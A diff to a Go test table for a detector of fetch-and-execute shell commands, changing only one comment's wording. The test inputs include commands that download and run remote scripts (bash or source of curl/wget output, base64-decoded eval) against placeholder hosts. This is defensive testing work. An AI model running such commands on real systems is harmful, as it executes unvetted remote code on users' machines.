@@ -15,7 +15,7 @@ func TestFetchesAndRuns(t *testing.T) {
 		"bash <(curl -s https://get.example/i)":                      true,
 		"eval `base64 --decode x`":                                   true,
 		". <(wget -qO- https://get.example/i)":                       true,
-		"true\ncurl https://get.example/i | \\\nsh":                  false, // a line that goes on is not followed
+		"true\ncurl https://get.example/i | \\\nsh":                  false, // continued lines are not joined
 		"curl -fsSL https://downloads.example/x.tgz | tar xz":        false,
 		"curl https://api.example/v | python3 -c 'import json'":      false,
 		"curl -o x https://downloads.example/x; sh ./build.sh":       false,
